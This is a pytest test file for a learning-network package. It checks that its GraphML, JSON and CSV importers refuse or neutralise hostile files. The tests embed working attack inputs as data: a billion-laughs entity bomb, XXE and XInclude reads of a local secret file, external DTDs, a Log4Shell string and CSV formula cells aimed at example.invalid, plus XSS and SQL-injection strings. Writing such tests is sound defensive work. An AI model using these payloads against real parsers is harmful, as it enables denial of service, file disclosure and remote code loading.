"""Hostile files: what a facilitator opening thirty files from strangers must survive.

Every test checks that the file is refused with the right error type and a
message that names the problem, and that nothing from the file is used.
"""

from __future__ import annotations

import csv
import io
import json
import pathlib

import pytest

from connectivism import network as network_module
from connectivism.errors import (
    EncodingError,
    FileFormatError,
    FileTooLargeError,
    InvalidFieldError,
    InvalidNameError,
    LimitExceededError,
    NetworkError,
    SchemaVersionError,
    UnsafeFileError,
)
from connectivism.formats import (
    MAX_FILE_BYTES,
    MAX_JSON_DEPTH,
    _safety,
    from_csv,
    from_graphml,
    from_json,
    load,
    read_csv,
    read_graphml,
    read_json,
    to_csv,
    to_graphml,
    to_json,
)
from connectivism.network import LearningNetwork

NODES_HEADER = "name,kind,topic,tags,note"
TIES_HEADER = "from,to,strength,since,last_contact,initiated_by"
FIFTY_MB = 50 * 1024 * 1024


@pytest.fixture
def hostile_small_network() -> LearningNetwork:
    net = LearningNetwork("Kim")
    net.add("Ada", "person")
    net.connect("Kim", "Ada", strength=4)
    return net


@pytest.fixture
def hostile_secret_file(tmp_path) -> pathlib.Path:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    return secret


# --- XML entities -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key id="kind" for="node" attr.name="kind"/>
  <graph edgedefault="undirected">
    <node id="n0"><data key="kind">me</data></node>
    <node id="n1"><data key="kind">&lol9;</data></node>
  </graph>
</graphml>
"""


def test_billion_laughs_graphml_is_refused(tmp_path):
    path = tmp_path / "laughs.graphml"
    path.write_bytes(BILLION_LAUGHS)
    for attempt in (lambda: read_graphml(path), lambda: from_graphml(BILLION_LAUGHS), lambda: load(path)):
        with pytest.raises(UnsafeFileError) as caught:
            attempt()
        message = str(caught.value)
        assert "laughs.graphml" in message or "network.graphml" in message
        assert "document type declaration (<!DOCTYPE ...>)" in message
        assert "was not read" in message


def test_external_entity_graphml_is_refused_and_nothing_is_read(tmp_path, hostile_secret_file):
    xxe = f"""<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY xxe SYSTEM "file://{hostile_secret_file}">]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key id="name" for="node" attr.name="name"/>
  <key id="kind" for="node" attr.name="kind"/>
  <graph edgedefault="undirected">
    <node id="n0"><data key="name">&xxe;</data><data key="kind">me</data></node>
  </graph>
</graphml>
""".encode()
    path = tmp_path / "xxe.graphml"
    path.write_bytes(xxe)
    with pytest.raises(UnsafeFileError) as caught:
        read_graphml(path)
    assert "TOP-SECRET-CONTENT" not in str(caught.value)
    assert "xxe.graphml" in str(caught.value)


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE graphml SYSTEM "http://example.invalid/evil.dtd"><graphml/>',
        b'<?xml version="1.0"?><!DOCTYPE graphml [<!ENTITY % p SYSTEM "http://example.invalid/p.dtd"> %p;]><graphml/>',
        b'<?xml version="1.0"?><!DOCTYPE graphml [<!ENTITY a "' + b"x" * 10_000 + b'">]><graphml>&a;&a;&a;</graphml>',
        b'<?xml version="1.0"?><!DOCTYPE graphml><graphml/>',
    ],
    ids=["external DTD", "parameter entity", "quadratic blowup", "empty DTD"],
)
def test_every_dtd_is_refused(document):
    with pytest.raises(UnsafeFileError, match="document type declaration"):
        from_graphml(document)


def test_undeclared_entity_is_not_expanded():
    with pytest.raises(FileFormatError, match="not well-formed XML"):
        from_graphml(b"<graphml>&xxe;</graphml>")


def test_xinclude_is_not_processed(hostile_secret_file):
    document = f"""<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:xi="http://www.w3.org/2001/XInclude">
  <key id="kind" for="node" attr.name="kind"/>
  <key id="note" for="node" attr.name="note"/>
  <graph><node id="Kim"><data key="kind">me</data>
    <data key="note"><xi:include href="{hostile_secret_file}" parse="text"/></data></node></graph>
</graphml>""".encode()
    net = from_graphml(document)
    assert "TOP-SECRET" not in net.node("Kim").note


def test_deeply_nested_xml_is_refused():
    document = b"<graphml>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</graphml>"
    with pytest.raises(UnsafeFileError, match="nests XML elements more than 32 levels deep"):
        from_graphml(document)


# --- size ---------------------------------------------------------------------------------------


def _fifty_mb_file(path: pathlib.Path, start: bytes) -> pathlib.Path:
    with path.open("wb") as handle:
        handle.write(start)
        handle.truncate(FIFTY_MB)  # sparse: quick to make, 50 MB by size
    return path


@pytest.mark.parametrize(
    "name, start, read",
    [
        ("huge.json", b'{"format": "connectivism-learning-network", "nodes": [', read_json),
        ("huge.graphml", b"<graphml>", read_graphml),
        ("huge.json", b"{", load),
        ("huge.txt", b"{", load),
    ],
)
def test_a_50_mb_file_is_refused_by_size_before_it_is_opened(tmp_path, monkeypatch, name, start, read):
    path = _fifty_mb_file(tmp_path / name, start)

    def refuse_open(*args, **kwargs):
        raise AssertionError("a file over the limit must not be opened")

    monkeypatch.setattr(pathlib.Path, "open", refuse_open)
    with pytest.raises(FileTooLargeError) as caught:
        read(path)
    message = str(caught.value)
    assert f"The file '{name}' is 50.0 MB, larger than the 5.0 MB limit" in message
    assert caught.value.value == FIFTY_MB


def test_a_50_mb_csv_is_refused_by_size(tmp_path):
    nodes = _fifty_mb_file(tmp_path / "nodes.csv", (NODES_HEADER + "\nKim,me,,,\n").encode())
    ties = tmp_path / "ties.csv"
    ties.write_text(TIES_HEADER + "\n", encoding="utf-8")
    with pytest.raises(FileTooLargeError, match=r"'nodes.csv' is 50.0 MB, larger than the 5.0 MB limit"):
        read_csv(nodes, ties)
    with pytest.raises(FileTooLargeError, match=r"'nodes.csv' is 50.0 MB"):
        read_csv(ties, nodes, names=("ties.csv", None))


class _CountingStream(io.RawIOBase):
    """An endless upload that records how much was asked of it."""

    def __init__(self):
        self.requested = 0

    def readable(self):
        return True

    def read(self, size=-1):
        if size is None or size < 0:
            raise AssertionError("read everything: the limit was not applied")
        self.requested += size
        return b"{" + b" " * (size - 1)


def test_file_objects_are_read_no_further_than_the_limit():
    stream = _CountingStream()
    with pytest.raises(FileTooLargeError, match="more than 5.0 MB, larger than the 5.0 MB limit"):
        read_json(stream, name="upload.json")
    assert stream.requested == MAX_FILE_BYTES + 1


@pytest.mark.skipif(not pathlib.Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_an_endless_special_file_is_cut_off_at_the_limit():
    with pytest.raises(FileTooLargeError, match="'zero' is more than 5.0 MB"):
        load("/dev/zero")


def test_uploaded_bytes_over_the_limit():
    with pytest.raises(FileTooLargeError, match="'upload.graphml' is 5.0 MB"):
        load(b"<" + b" " * MAX_FILE_BYTES, name="upload.graphml")


def test_the_limit_is_a_module_constant(monkeypatch, hostile_small_network):
    assert MAX_FILE_BYTES == 5 * 1024 * 1024
    text = to_json(hostile_small_network)
    monkeypatch.setattr(_safety, "MAX_FILE_BYTES", len(text.encode()) - 1)
    with pytest.raises(FileTooLargeError):
        from_json(text)


def test_too_many_nodes_in_a_file(monkeypatch):
    monkeypatch.setattr(network_module, "MAX_NODES", 10)
    doc = {
        "format": "connectivism-learning-network",
        "format_version": 1,
        "nodes": [{"name": "Kim", "kind": "me"}] + [{"name": f"P{i}", "kind": "person"} for i in range(10)],
    }
    with pytest.raises(LimitExceededError, match="has 11 nodes: a network can have at most 10"):
        from_json(json.dumps(doc))


# --- encodings ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b'{"format": "connectivism-learning-network", "me": "Ren\xe9e"}',
        b'{"me": "\xc3\x28"}',  # a broken two-byte sequence
        b'{"me": "\xed\xa0\x80"}',  # an encoded surrogate
        b'{"me": "\xc0\xaf"}',  # an overlong slash
    ],
)
def test_invalid_utf8_json(data):
    with pytest.raises(EncodingError) as caught:
        from_json(data, name="bad.json")
    assert str(caught.value).startswith("The file 'bad.json' is not valid UTF-8 text (byte 0x")


def test_invalid_utf8_graphml():
    data = to_graphml(LearningNetwork("Kim")).replace(b"Kim", b"K\xffm")
    with pytest.raises(EncodingError, match="'network.graphml' is not valid UTF-8 text"):
        from_graphml(data)


def test_invalid_utf8_csv_that_is_not_cp1252_either():
    nodes = (NODES_HEADER + "\nKim,me,,,\n").encode() + b"\x81\x8d\n"
    with pytest.raises(EncodingError, match=r"not valid UTF-8 text \(byte 0x81 .*CSV UTF-8"):
        from_csv(nodes, TIES_HEADER + "\n")


def test_bom_and_semicolon_csv_is_accepted():
    nodes = b"\xef\xbb\xbfname;kind;topic;tags;note\r\nRen\xc3\xa9e;me;;;\r\nAda;person;;;\r\n"
    ties = b"\xef\xbb\xbffrom;to;strength;since;last_contact;initiated_by\r\nRen\xc3\xa9e;Ada;5;2024-03-01;;me\r\n"
    net = from_csv(nodes, ties)
    assert net.me == "Renée"
    assert net.tie("renée", "ada").strength == 5


def test_cp1252_csv_gets_the_hint():
    nodes = "name;kind;topic;tags;note\r\nRenée;me;;;\r\n".encode("cp1252")
    with pytest.raises(EncodingError) as caught:
        from_csv(nodes, TIES_HEADER + "\n")
    assert "(it looks like Windows/cp1252 text). In Excel use File → Save As → 'CSV UTF-8 (Comma delimited)'" in str(
        caught.value
    )


# --- JSON tricks ------------------------------------------------------------------------------------


def test_deeply_nested_json_is_refused_without_recursion_error():
    deep = "[" * 100_000 + "]" * 100_000
    with pytest.raises(UnsafeFileError) as caught:
        from_json(deep, name="deep.json")
    assert not isinstance(caught.value, RecursionError)
    assert str(caught.value).startswith(
        f"The file 'deep.json' nests lists or objects more than {MAX_JSON_DEPTH} levels deep"
    )


def test_deep_nesting_inside_metadata_is_refused():
    doc = (
        '{"format": "connectivism-learning-network", "format_version": 1, "metadata": {"x": '
        + '{"y": ' * 30
        + "1"
        + "}" * 30
        + "}}"
    )
    with pytest.raises(UnsafeFileError, match="more than 20 levels deep"):
        from_json(doc)


def test_brackets_inside_strings_do_not_count_as_nesting():
    net = LearningNetwork("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{{{{{{{{{{{{{{{")
    net.add('Quote " and [[[[[[[[[[[[[[[[[[[[[[[[[[[[\\', "resource")
    assert from_json(to_json(net)) == net


@pytest.mark.parametrize(
    "text, key",
    [
        ('{"format": "connectivism-learning-network", "format_version": 1, "format_version": 2}', "format_version"),
        (
            '{"format": "connectivism-learning-network", "format_version": 1, "me": "Kim",'
            ' "nodes": [{"name": "Kim", "kind": "me", "kind": "person"}]}',
            "kind",
        ),
    ],
)
def test_duplicate_keys_are_refused(text, key):
    with pytest.raises(UnsafeFileError) as caught:
        from_json(text)
    assert f"has the key '{key}' twice in the same object" in str(caught.value)


@pytest.mark.parametrize("version", [3, 99, 10**6])
def test_future_schema_versions_are_refused(version, hostile_small_network):
    doc = json.loads(to_json(hostile_small_network))
    doc["format_version"] = version
    with pytest.raises(SchemaVersionError) as caught:
        from_json(json.dumps(doc))
    assert f"newer version of the kit (format version {version}; this kit reads versions up to 2)" in str(caught.value)


@pytest.mark.parametrize(
    "text, expected",
    [
        ('{"strength": NaN}', "NaN is not a number JSON allows"),
        ('{"x": ' + "9" * 5000 + "}", "a number with thousands of digits"),
        ("", "is not valid JSON (Expecting value at line 1, column 1)"),
        ("{'single': 'quotes'}", "is not valid JSON"),
        ('{"a": 1}  {"b": 2}', "Extra data"),
    ],
)
def test_malformed_json(text, expected):
    with pytest.raises(FileFormatError, match=expected.replace("(", r"\(").replace(")", r"\)")):
        from_json(text)


def test_control_characters_and_surrogates_in_json_strings_are_refused(hostile_small_network):
    doc = json.loads(to_json(hostile_small_network))
    doc["nodes"][1]["name"] = "Ada\u0000"
    with pytest.raises(InvalidNameError, match="control character"):
        from_json(json.dumps(doc))
    text = to_json(hostile_small_network).replace('"note": ""', '"note": "\\ud800"', 1)
    with pytest.raises(InvalidFieldError, match="U\\+D800"):
        from_json(text)


# --- content that is odd but harmless is kept verbatim ------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(document.cookie)">',
        "javascript:alert(1)",
        "{{7*7}}",
        "${jndi:ldap://example.invalid/a}",
        "'; DROP TABLE nodes; --",
    ],
)
def test_html_and_script_in_names_are_stored_verbatim(name):
    net = LearningNetwork("Kim")
    net.add(name, "resource", note=name, tags=["<b>"])
    net.connect("Kim", name, 2)
    for back in (from_json(to_json(net)), from_graphml(to_graphml(net)), from_csv(*to_csv(net))):
        assert back.node(name).name == name
        assert back.node(name).note == name
        assert back == net


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://example.invalid","x")'])
def test_formula_cells_are_neutralised_and_round_trip(cell):
    net = LearningNetwork(cell)
    net.add("Ada", "person", note=cell, topic=cell)
    nodes, ties = to_csv(net)
    cells = [c for row in csv.reader(io.StringIO(nodes + ties, newline="")) for c in row]
    assert cells.count(f"'{cell}") == 3
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert from_csv(nodes, ties) == net


# --- an import either succeeds completely or changes nothing ---------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        lambda: from_graphml(BILLION_LAUGHS),
        lambda: from_json("[" * 50_000),
        lambda: from_json(b"\xff\xfe"),
        lambda: from_csv(NODES_HEADER + "\nKim,me,,,\nAda,person,,,\n", TIES_HEADER + "\nKim,Ada,9,,,\n"),
        lambda: from_json(
            '{"format": "connectivism-learning-network", "format_version": 1, "me": "Kim", '
            '"nodes": [{"name": "Kim", "kind": "me"}, {"name": "Ada", "kind": "person"}], '
            '"ties": [{"a": "Kim", "b": "Ada", "strength": 2}, {"a": "Kim", "b": "Zed", "strength": 2}]}'
        ),
    ],
)
def test_a_failed_import_changes_nothing(payload, hostile_small_network):
    shown = hostile_small_network
    before = (shown.nodes, shown.ties, shown.metadata)
    with pytest.raises(NetworkError):
        shown.replace_with(payload())
    assert (shown.nodes, shown.ties, shown.metadata) == before
